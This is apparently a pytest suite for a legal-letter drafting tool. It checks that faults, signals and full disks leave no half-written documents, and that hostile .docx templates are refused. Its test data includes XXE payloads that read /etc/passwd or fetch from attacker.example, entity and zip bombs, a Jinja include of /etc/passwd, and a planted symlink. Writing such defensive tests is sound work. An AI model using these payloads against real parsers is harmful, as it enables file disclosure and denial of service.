"""No half-written files, under faults: an error, Ctrl-C or a crash in the middle of
writing leaves no partial and no temporary file in --out; a full disk, a read-only or
missing --out, and every way a template can be broken or hostile are clear errors
(exit 1, the file named, no traceback) that write nothing."""

from __future__ import annotations

import errno
import os
import re
import shutil
import signal
import stat
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from docx import Document
from typer.testing import CliRunner

import drafting.output as output
from drafting import ooxml
from drafting.cli import app
from drafting.errors import OutputError, OutputExistsError, TemplateError
from drafting.render import Renderer

ROOT = Path(__file__).parent.parent
EXAMPLES = ROOT / "examples"
US_CHEN = "2026-0231"  # three preservation letters


def case_folder(tmp_path: Path, name: str = "us-chen.yaml") -> Path:
    folder = tmp_path / "case"
    folder.mkdir(exist_ok=True)
    shutil.copy(EXAMPLES / "firm.yaml", folder / "firm.yaml")
    shutil.copy(EXAMPLES / "cases" / name, folder / name)
    return folder / name


def render_cli(*args: str):
    return CliRunner().invoke(app, ["render", *map(str, args)])


def files_in(folder: Path) -> list[str]:
    """Every entry in ``folder``, hidden ones included (a temp file is hidden)."""
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def _writes_into(fd: int, folder: Path) -> bool:
    """Is ``fd`` a file inside ``folder``? (an O_TMPFILE reads as ``folder/#123 (deleted)``)."""
    try:
        return os.readlink(f"/proc/self/fd/{fd}").startswith(str(folder.resolve()) + os.sep)
    except OSError:
        return False


needs_proc = pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc to aim faults at one file")


@pytest.fixture
def temp_file_kind():
    """The one way a document is written: a named temporary file, then its name."""
    return "named"


# ---------------------------------------------------------------- faults inside write_atomic

FAULTS = {
    "interrupt-in-write": ("write", KeyboardInterrupt),
    "interrupt-in-fsync": ("fsync", KeyboardInterrupt),
    "interrupt-in-link": ("link", KeyboardInterrupt),
    "io-error-in-write": ("write", OSError(errno.EIO, "Input/output error")),
    "io-error-in-fsync": ("fsync", OSError(errno.EIO, "Input/output error")),
    "io-error-in-link": ("link", OSError(errno.EIO, "Input/output error")),
}


def inject(monkeypatch, call: str, exc, out: Path, *, after: int = 0) -> None:
    """Make ``os.<call>`` on files in ``out`` raise ``exc`` (after ``after`` good calls)."""
    real = getattr(os, call)
    seen = {"n": 0}

    def faulty(*args, **kwargs):
        if call == "link":
            hit = str(args[1]).startswith(str(out))
        else:
            hit = _writes_into(args[0], out)
        if hit:
            seen["n"] += 1
            if seen["n"] > after:
                if call == "write":  # half the bytes reach the disk first
                    real(args[0], bytes(args[1])[: max(1, len(args[1]) // 2)])
                raise exc
        return real(*args, **kwargs)

    monkeypatch.setattr(os, call, faulty)


@needs_proc
@pytest.mark.parametrize("fault", FAULTS)
def test_fault_while_writing_leaves_nothing(tmp_path, monkeypatch, temp_file_kind, fault):
    call, exc = FAULTS[fault]
    out = tmp_path / "out"
    out.mkdir()
    inject(monkeypatch, call, exc, out)
    expected = KeyboardInterrupt if exc is KeyboardInterrupt else OutputError
    with pytest.raises(expected) as info:
        output.write_atomic(out / "a.docx", b"PK" + b"x" * 100_000, force=False)
    assert files_in(out) == []
    if expected is OutputError:
        assert info.value.file == str(out / "a.docx") and "Input/output error" in info.value.message


@needs_proc
@pytest.mark.parametrize("fault", ["interrupt-in-write", "interrupt-in-fsync", "io-error-in-fsync"])
def test_fault_while_replacing_with_force_keeps_the_old_document(tmp_path, monkeypatch, temp_file_kind, fault):
    call, exc = FAULTS[fault]
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.docx").write_bytes(b"the attorney's edited letter")
    inject(monkeypatch, call, exc, out)
    with pytest.raises((KeyboardInterrupt, OutputError)):
        output.write_atomic(out / "a.docx", b"new" * 1000, force=True)
    assert files_in(out) == ["a.docx"]
    assert (out / "a.docx").read_bytes() == b"the attorney's edited letter"


@needs_proc
def test_interrupt_in_the_rename_of_force_keeps_the_old_document(tmp_path, monkeypatch, temp_file_kind):
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.docx").write_bytes(b"old")

    def interrupted(src, dst, *a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        output.write_atomic(out / "a.docx", b"new", force=True)
    assert files_in(out) == ["a.docx"] and (out / "a.docx").read_bytes() == b"old"


@needs_proc
def test_interrupt_just_after_the_link_leaves_a_whole_document(tmp_path, monkeypatch, temp_file_kind):
    """Ctrl-C between naming the file and tidying up: the document is complete."""
    out = tmp_path / "out"
    out.mkdir()
    if temp_file_kind == "unnamed":
        real_name = output._name_unnamed

        def name_then_interrupt(fd, path):
            if real_name(fd, path):
                raise KeyboardInterrupt
            return False

        monkeypatch.setattr(output, "_name_unnamed", name_then_interrupt)
    else:
        real_link = os.link

        def link_then_interrupt(src, dst, *a, **k):
            real_link(src, dst, *a, **k)
            raise KeyboardInterrupt

        monkeypatch.setattr(os, "link", link_then_interrupt)
    data = b"PK" + os.urandom(50_000)
    with pytest.raises(KeyboardInterrupt):
        output.write_atomic(out / "a.docx", data, force=False)
    assert files_in(out) == ["a.docx"]
    assert (out / "a.docx").read_bytes() == data
    assert stat.S_IMODE((out / "a.docx").stat().st_mode) == 0o600


@needs_proc
def test_interrupt_during_the_second_letter_leaves_the_first_whole_and_no_other(tmp_path, monkeypatch,
                                                                                temp_file_kind):
    case = case_folder(tmp_path)
    out = tmp_path / "out"
    inject(monkeypatch, "fsync", KeyboardInterrupt, out, after=1)
    with pytest.raises(KeyboardInterrupt):
        Renderer().render_case("preservation", case, out_dir=out)
    (written,) = files_in(out)
    assert written.startswith(f"{US_CHEN}-preservation-")
    with zipfile.ZipFile(out / written) as zf:
        assert zf.testzip() is None


# ---------------------------------------------------------------- through the command line


@needs_proc
@pytest.mark.parametrize("call", ["write", "fsync"])
def test_full_disk_is_a_clear_error_that_leaves_nothing(tmp_path, monkeypatch, temp_file_kind, call):
    case = case_folder(tmp_path)
    out = tmp_path / "out"
    inject(monkeypatch, call, OSError(errno.ENOSPC, os.strerror(errno.ENOSPC)), out)
    result = render_cli("preservation", case, "--out", out)
    assert result.exit_code == 1
    assert f"{out}/{US_CHEN}-preservation-" in result.output
    assert "cannot write (No space left on device)" in result.output
    assert "Traceback" not in result.output
    assert files_in(out) == []


def test_missing_out_is_created_owner_only(tmp_path):
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "does" / "not" / "exist"
    result = render_cli("engagement", case, "--out", out)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert files_in(out) == ["2026-0142-engagement.docx"]
    assert stat.S_IMODE((out / "2026-0142-engagement.docx").stat().st_mode) == 0o600


@pytest.mark.parametrize("command", ["render", "batch", "new"])
def test_every_folder_created_is_owner_only_even_under_umask_000(tmp_path, command):
    """Issue 12.8: mkdir(parents=True) left --out's parents 0777 under umask 000."""
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    top = tmp_path / "does"
    out = top / "not" / "exist"
    old = os.umask(0)
    try:
        if command == "new":
            result = CliRunner().invoke(app, ["new", str(out / "c.yaml"), "--no-input"])
        else:
            result = CliRunner().invoke(app, [command, "engagement", str(case), "--out", str(out)])
    finally:
        os.umask(old)
    assert out.exists(), result.output
    for folder in (top, top / "not", out):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    for f in out.iterdir():
        assert stat.S_IMODE(f.stat().st_mode) == 0o600, f


def test_out_that_is_a_file_is_a_clear_error(tmp_path):
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    out.write_text("a file, not a folder")
    result = render_cli("engagement", case, "--out", out)
    assert result.exit_code == 2  # the command line refuses it as wrong usage
    assert "is a file" in result.output
    with pytest.raises(OutputError) as info:  # the library, for callers that skip the CLI
        Renderer().render_case("engagement", case, out_dir=out)
    assert info.value.render() == f"{out}: exists and is not a folder"
    assert out.read_text() == "a file, not a folder"


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a 0500 folder; see the read-only file system test")
def test_read_only_out_is_a_clear_error(tmp_path):
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    out.mkdir(mode=0o500)
    try:
        result = render_cli("engagement", case, "--out", out)
    finally:
        out.chmod(0o700)
    assert result.exit_code == 1
    assert f"{out}: the output folder is not writable" in result.output
    assert files_in(out) == []


def test_read_only_file_system_is_a_clear_error(tmp_path, monkeypatch, temp_file_kind):
    """Mounted read-only (EROFS), as root too: the error comes from creating the file."""
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    out.mkdir()
    real = os.open

    def read_only(path, *args, **kwargs):
        if str(path).startswith(str(out)):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", read_only)
    result = render_cli("engagement", case, "--out", out)
    assert result.exit_code == 1
    assert f"{out}/2026-0142-engagement.docx: cannot write (Read-only file system)" in result.output
    assert "Traceback" not in result.output
    assert files_in(out) == []


def test_out_removed_while_rendering_is_a_clear_error(tmp_path, monkeypatch, temp_file_kind):
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    real = output.prepare_out_dir

    def prepare_then_vanish(folder):
        real(folder)
        folder.rmdir()
        return folder

    monkeypatch.setattr("drafting.render.prepare_out_dir", prepare_then_vanish)
    result = render_cli("engagement", case, "--out", out)
    assert result.exit_code == 1
    assert "cannot write (No such file or directory)" in result.output
    assert "Traceback" not in result.output


def test_existing_document_is_never_overwritten_even_by_a_racing_writer(tmp_path, temp_file_kind):
    out = tmp_path / "out"
    out.mkdir()
    target = out / "a.docx"
    real_exists = Path.exists

    # The check says "absent", then another process creates the file before our link.
    def racing_exists(self):
        if self == target and not real_exists(self):
            target.write_bytes(b"written by the other process")
            return False
        return real_exists(self)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Path, "exists", racing_exists)
        with pytest.raises(OutputExistsError):
            output.write_atomic(target, b"ours", force=False)
    assert target.read_bytes() == b"written by the other process"
    assert files_in(out) == ["a.docx"]


# ---------------------------------------------------------------- a real Ctrl-C, a real crash

_CHILD = textwrap.dedent("""
    import os, signal, sys
    sig = getattr(signal, sys.argv[1])
    out = os.path.realpath(sys.argv[2]) + os.sep
    real_fsync = os.fsync

    def fsync(fd):
        # the moment the first letter's bytes are down but it has no name yet
        if os.readlink(f"/proc/self/fd/{fd}").startswith(out):
            os.kill(os.getpid(), sig)
        return real_fsync(fd)

    os.fsync = fsync
    sys.argv = ["drafting", *sys.argv[3:]]
    from drafting.cli import main
    main()
""")


@needs_proc
@pytest.mark.parametrize("sig", ["SIGINT", "SIGKILL", "SIGTERM"])
def test_real_signal_during_render_leaves_nothing_in_out(tmp_path, sig):
    case = case_folder(tmp_path)
    out = tmp_path / "out"
    proc = subprocess.run(
        [sys.executable, "-c", _CHILD, sig, str(out), "render", "preservation", str(case), "--out", str(out)],
        capture_output=True, text=True, timeout=120, cwd=ROOT,
    )
    if sig == "SIGINT":
        assert proc.returncode == 130, proc.stderr
        assert "interrupted; nothing half-written was left behind" in proc.stderr
        assert "Traceback" not in proc.stderr
        assert files_in(out) == []
        return
    assert proc.returncode == -getattr(signal, sig)
    # killed with no chance to clean up: no letter, at most a hidden temporary file ...
    leftovers = files_in(out)
    assert all(name.startswith(output.TEMP_PREFIX) and name.endswith(".tmp") for name in leftovers)
    # ... which the next run removes once it is too old to be a live run's
    for name in leftovers:
        os.utime(out / name, (0, 0))
    again = subprocess.run([sys.executable, "-m", "drafting", "render", "preservation", str(case), "--out", str(out)],
                           capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert again.returncode == 0, again.stderr
    assert not [n for n in files_in(out) if n.startswith(output.TEMP_PREFIX)]


# ---------------------------------------------------------------- broken and hostile templates


def base_template(path: Path) -> Path:
    doc = Document()
    doc.add_paragraph().add_run("Dear {{ client.name }},")
    doc.sections[0].header.paragraphs[0].add_run("{{ firm.name }}")
    path.parent.mkdir(parents=True, exist_ok=True)
    doc.save(path)
    return path


def rewrite_part(path: Path, part: str, change) -> Path:
    """Rewrite one part of the .docx at ``path`` with ``change(bytes) -> bytes``."""
    with zipfile.ZipFile(path) as zin:
        parts = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts:
            zout.writestr(name, change(data) if name == part else data)
        if part not in dict(parts):
            zout.writestr(part, change(b""))
    return path


def render_with_template(tmp_path: Path):
    """Render ca-ortiz's engagement letter with ``tmp_path/tpl``; nothing may be written."""
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    result = render_cli("engagement", case, "--out", out, "--templates", tmp_path / "tpl")
    assert "Traceback" not in result.output
    assert files_in(out) == []
    return result


@pytest.fixture
def template(tmp_path) -> Path:
    return base_template(tmp_path / "tpl" / "engagement.docx")


def test_the_base_template_renders(tmp_path, template):
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    result = render_cli("engagement", case, "--out", tmp_path / "out", "--templates", tmp_path / "tpl")
    assert result.exit_code == 0, result.output


def _first_xml_decl_end(data: bytes) -> int:
    return data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0


DOCTYPES = {
    "entity-bomb": b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "external-entity": b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "external-dtd": b'<!DOCTYPE w SYSTEM "http://attacker.example/x.dtd">',
    "parameter-entity": b'<!DOCTYPE w [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>',
}


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "word/header1.xml", "[Content_Types].xml"])
@pytest.mark.parametrize("doctype", DOCTYPES)
def test_template_with_a_doctype_or_entity_is_refused(tmp_path, template, part, doctype):
    def add_doctype(data: bytes) -> bytes:
        at = _first_xml_decl_end(data)
        body = data[at:].replace(b"Dear {{ client.name }}", b"Dear &b;&xxe;") if doctype != "external-dtd" else data[at:]
        return data[:at] + DOCTYPES[doctype] + body

    rewrite_part(template, part, add_doctype)
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: part {part} declares a DOCTYPE or ENTITY; refused" in result.output
    assert "root:" not in result.output  # /etc/passwd was never read


def test_template_with_a_doctype_in_a_utf16_part_is_refused(tmp_path, template):
    def to_utf16(data: bytes) -> bytes:
        text = data.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        at = text.index("?>") + 2
        return (text[:at] + '<!DOCTYPE w [<!ENTITY a "x">]>' + text[at:]).encode("utf-16")

    rewrite_part(template, "word/styles.xml", to_utf16)
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert "declares a DOCTYPE or ENTITY; refused" in result.output


def test_template_zip_bomb_is_refused_before_it_is_inflated(tmp_path, template, monkeypatch):
    # A 4 MB part of zeros deflates to ~4 KB (1000:1); the limits are lowered to keep the
    # test small, the check is the same.
    monkeypatch.setattr(ooxml, "RATIO_MIN_SIZE", 1024 * 1024)
    rewrite_part(template, "word/media/bomb.bin", lambda _: bytes(4 * 1024 * 1024))
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: refused: part word/media/bomb.bin is compressed more than 200:1 (zip bomb?)" in result.output


def test_template_that_unpacks_too_large_is_refused(tmp_path, template, monkeypatch):
    monkeypatch.setattr(ooxml, "MAX_TOTAL_UNCOMPRESSED", 2 * 1024 * 1024)
    rewrite_part(template, "word/media/big.bin", lambda _: os.urandom(3 * 1024 * 1024))
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: refused: the .docx would unpack to more than 2 MB" in result.output


def _lie_about_size(path: Path, part: str, size: int) -> None:
    """Make the zip headers claim ``part`` inflates to ``size`` bytes."""
    data = bytearray(path.read_bytes())
    name = part.encode()
    local = data.index(b"PK\x03\x04")
    while True:  # local file header: uncompressed size at +22
        name_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30: local + 30 + name_len] == name:
            struct.pack_into("<I", data, local + 22, size)
            break
        local = data.index(b"PK\x03\x04", local + 4)
    central = data.index(b"PK\x01\x02")
    while True:  # central directory header: uncompressed size at +24
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46: central + 46 + name_len] == name:
            struct.pack_into("<I", data, central + 24, size)
            break
        central = data.index(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))


def test_template_part_that_inflates_past_its_declared_size_is_refused(tmp_path, template):
    """The headers say 1 KB; the data would inflate to 50 MB. Reading stops at 1 KB."""
    rewrite_part(template, "word/media/liar.bin", lambda _: bytes(50 * 1024 * 1024))
    _lie_about_size(template, "word/media/liar.bin", 1024)
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: part word/media/liar.bin cannot be read" in result.output


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x03\x04" + b"\x00" * 40, "half"],
                         ids=["empty", "text", "zip-signature-only", "truncated-docx"])
def test_template_that_is_not_a_docx_is_refused(tmp_path, template, content):
    if content == "half":
        content = template.read_bytes()[: template.stat().st_size // 2]
    template.write_bytes(content)
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: not a .docx (zip) file" in result.output


def test_zip_that_is_not_a_word_document_is_refused(tmp_path, template):
    with zipfile.ZipFile(template, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: is not a Word document (no word/document.xml)" in result.output


@pytest.mark.parametrize("source,near", [
    ("Dear {% if client.name %}{{ client.name }},", "Dear"),
    ("{{ client.name | no_such_filter }}", "no_such_filter"),
    ("{% for x in %}{% endfor %}", "for x in"),
    ("{{ client.name }", "client.name"),
    ("{% endif %}", "endif"),
    ("{{ }}", ""),
], ids=["unclosed-if", "unknown-filter", "for-without-list", "unclosed-braces", "stray-endif", "empty-braces"])
def test_template_with_a_jinja_syntax_error_is_refused(tmp_path, template, source, near):
    rewrite_part(template, "word/document.xml", lambda d: d.replace(b"Dear {{ client.name }},", source.encode()))
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: Jinja syntax error in word/document.xml" in result.output


@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml"])
def test_template_part_that_is_not_utf8_is_refused(tmp_path, template, part):
    rewrite_part(template, part, lambda d: d.replace(b"{{", b"\xff\xfe{{", 1))
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert f"{template}: part {part} is not well-formed XML" in result.output


def test_template_that_includes_other_templates_is_refused(tmp_path, template):
    """No loader: a template cannot pull in files from the disk."""
    rewrite_part(template, "word/document.xml",
                 lambda d: d.replace(b"Dear {{ client.name }},", b"{% include '/etc/passwd' %}"))
    result = render_with_template(tmp_path)
    assert result.exit_code == 1
    assert str(template) in result.output and "root:" not in result.output


def test_template_with_runaway_recursion_is_a_template_error(tmp_path, template):
    rewrite_part(template, "word/document.xml", lambda d: d.replace(
        b"Dear {{ client.name }},", b"{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"))
    with pytest.raises(TemplateError):
        Renderer(templates_dir=tmp_path / "tpl").documents("engagement", case_folder(tmp_path, "ca-ortiz.yaml"),
                                                           out_dir=tmp_path / "out")


@pytest.mark.parametrize("source,says", [
    ("{{ 10**100000 }}", "is not allowed in the sandbox: '**' would make a number too large"),
    ("{{ 'a' * 10**10 }}", "'*' would make more than 1,000,000 characters"),
    ("{% for i in range(100000) %}{{ 'a' * 1000000 }}{% endfor %}", "makes more than 3 million characters"),
    ("{{ 'abc'|truncate(-5) }}", "AssertionError"),
    ("{% set d = {'a': 1} %}{% for k in d %}{% set _ = d.update({'b': 2}) %}{% endfor %}", "dict.update"),
    ("{{ none }}", "prints an empty value (none)"),
    ("{{ {}.get('x') }}", "prints an empty value (none)"),
    ("{% set _ = charges.pop() %}", "list.pop"),
    ("{{ [1, 2]|first(3) }}", "TypeError"),
    ("{{ '%c'|format(charges|length * 0 + 7) }}", "holds the control character U+0007"),
], ids=["huge-power", "huge-repeat", "runaway-output", "bad-truncate", "dict-changed", "none", "computed-none",
        "mutates-the-context", "bad-filter-call", "computed-control-character"])
@pytest.mark.parametrize("command", ["render", "check"])
def test_a_template_fault_names_the_template_part_and_paragraph(tmp_path, template, source, says, command,
                                                              monkeypatch):
    """Issue 12.17: these were tracebacks (ValueError at compile, AssertionError,
    RuntimeError, MemoryError) or blamed the case ("ca-ortiz.yaml:1:1 (a value that is empty)").
    The runaway-output limit is lowered from 50 to 3 million characters: the same stop, sooner."""
    monkeypatch.setattr("drafting.docx_template.MAX_PART_CHARS", 3 * 10**6)
    rewrite_part(template, "word/document.xml", lambda d: d.replace(b"Dear {{ client.name }},", source.encode()))
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    if command == "render":
        result = render_cli("engagement", case, "--out", out, "--templates", tmp_path / "tpl")
    else:
        result = CliRunner().invoke(app, ["check", str(case), "--templates", str(tmp_path / "tpl")])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and result.exception is None or isinstance(result.exception, SystemExit)
    assert str(template) in result.output and ("word/document.xml" in result.output or "body ¶" in result.output)
    assert says in result.output, result.output
    assert "ca-ortiz.yaml:1:1" not in result.output
    assert files_in(out) == []


def test_a_template_fault_gives_the_paragraph(tmp_path, template):
    rewrite_part(template, "word/document.xml", lambda d: d.replace(b"Dear {{ client.name }},",
                                                                  b"Dear {{ 'abc'|truncate(-5) }},"))
    with pytest.raises(TemplateError) as info:
        Renderer(templates_dir=tmp_path / "tpl").documents("engagement", case_folder(tmp_path, "ca-ortiz.yaml"),
                                                           out_dir=tmp_path / "out")
    assert re.search(r"in word/document\.xml, paragraph \d+ \(near: \"Dear \{\{ 'abc'\|truncate\(-5\) \}\},\"\)",
                     info.value.message), info.value.message


def test_a_template_cannot_change_the_next_letter_of_a_batch(tmp_path):
    """Issue 12.5: the sandbox was the mutable one and letters share records, so
    ``charges.pop()`` in one letter removed a charge from the next case's."""
    from drafting.batch import run_batch
    from helpers import make_template

    templates = tmp_path / "tpl"
    make_template(templates, "advisory", ["{% set _ = charges.pop() %}{{ charges|length }}"])
    for name in ("ca-ortiz.yaml", "us-chen.yaml"):
        case_folder(tmp_path, name)
    report = run_batch("advisory", [tmp_path / "case"], out_dir=tmp_path / "out", jobs=1, templates_dir=templates,
                       draft=True)
    assert [o.status for o in report.outcomes] == ["failed", "failed"]
    assert all("list.pop" in o.error["message"] for o in report.outcomes)
    assert files_in(tmp_path / "out") == ["manifest-advisory.json", "manifest.json"]


def test_letters_of_a_batch_are_byte_identical_to_letters_rendered_one_by_one(tmp_path):
    from drafting.batch import run_batch

    for name in ("ca-ortiz.yaml", "us-chen.yaml", "ny-lindqvist.yaml"):
        case_folder(tmp_path, name)
    report = run_batch("advisory", [tmp_path / "case"], out_dir=tmp_path / "out", jobs=1, letter_date="2026-11-28",
                       draft=True)
    assert not report.failed
    for name in ("ca-ortiz.yaml", "us-chen.yaml", "ny-lindqvist.yaml"):
        (doc,) = Renderer(draft=True).documents("advisory", tmp_path / "case" / name, out_dir=tmp_path / "out",
                                      letter_date="2026-11-28")
        assert doc.path.read_bytes() == doc.data


def test_template_part_in_utf16_is_rendered_or_refused(tmp_path, template):
    rewrite_part(template, "word/document.xml",
                 lambda d: d.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    from drafting.docxtext import read_document, to_lines

    try:
        (doc,) = Renderer(templates_dir=tmp_path / "tpl").documents(
            "engagement", case_folder(tmp_path, "ca-ortiz.yaml"), out_dir=tmp_path / "out")
    except TemplateError:
        return
    text = "\n".join(to_lines(read_document(doc.data)))
    assert "{{" not in text and "Daniel R. Ortiz" in text


@pytest.mark.parametrize("force", [False, True], ids=["plain", "force"])
def test_a_symlink_planted_at_the_output_name_is_never_written_through(tmp_path, force):
    """Someone who can write into --out plants out/<name>.docx -> a file elsewhere: the
    letter never lands in (or replaces) that file."""
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (out / "2026-0142-engagement.docx").symlink_to(victim)
    with pytest.raises((OutputError, OutputExistsError)):
        Renderer().render_case("engagement", case, out_dir=out, force=force)
    assert victim.read_text() == "precious"
    assert files_in(out) == ["2026-0142-engagement.docx"]


def test_leftovers_of_a_killed_run_are_removed_by_the_next(tmp_path):
    """Issue 12.18: kill -9 during --force can leave a hidden .drafting-*.tmp copy of a
    letter; the next run removes those it owns and that no live run can be using."""
    case = case_folder(tmp_path, "ca-ortiz.yaml")
    out = tmp_path / "out"
    out.mkdir()
    old, fresh, other = (out / f".drafting-{n}.tmp" for n in ("0123456789abcdef", "fedcba9876543210", "1111"))
    for path in (old, fresh, other):
        path.write_bytes(b"PK a whole letter")
    os.utime(old, (0, 0))
    os.utime(other, (0, 0))
    if os.geteuid() == 0:
        os.chown(other, 65534, 65534)
    work = out / ".pdf-abcd"
    work.mkdir()
    os.utime(work, (0, 0))
    result = render_cli("engagement", case, "--out", out)
    assert result.exit_code == 0, result.output
    assert not old.exists() and not work.exists()
    assert fresh.exists()  # may belong to a run still going
    assert other.exists() == (os.geteuid() == 0)  # another user's is not ours to remove


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs /proc")
def test_killing_the_batch_parent_ends_its_workers(tmp_path):
    """Issue 12.18: kill -9 of the batch parent left its workers running (reparented to init)."""
    import time

    from helpers import make_template

    templates = tmp_path / "tpl"
    make_template(templates, "advisory", ["{% for i in range(20000) %}{% endfor %}{{ client.name }}"])
    cases = tmp_path / "cases"
    cases.mkdir()
    shutil.copy(EXAMPLES / "firm.yaml", cases / "firm.yaml")
    text = (EXAMPLES / "cases" / "ca-ortiz.yaml").read_text()
    for i in range(400):
        (cases / f"c{i:03d}.yaml").write_text(text.replace('"2026-0142"', f'"2026-{i:04d}"'))
    drafting = Path(sys.executable).parent / "drafting"
    env = {**os.environ, "DRAFTING_CACHE_DIR": "off"}
    parent = subprocess.Popen([str(drafting), "batch", "advisory", str(cases), "--out", str(tmp_path / "out"),
                               "--templates", str(templates), "--jobs", "2"], env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def children() -> list[int]:
        found = []
        for task in Path(f"/proc/{parent.pid}/task").glob("*"):
            try:
                found += [int(p) for p in (task / "children").read_text().split()]
            except OSError:
                pass
        return found

    deadline = time.monotonic() + 30
    workers: list[int] = []
    while time.monotonic() < deadline and len(workers) < 2:
        workers = children()
        time.sleep(0.05)
    assert len(workers) >= 2, "the batch started no workers"
    time.sleep(0.3)
    parent.kill()
    parent.wait()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and any(_alive(pid) for pid in workers):
        time.sleep(0.05)
    alive = [pid for pid in workers if _alive(pid)]
    for pid in alive:
        os.kill(pid, signal.SIGKILL)
    assert not alive, "workers outlived the batch"


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"
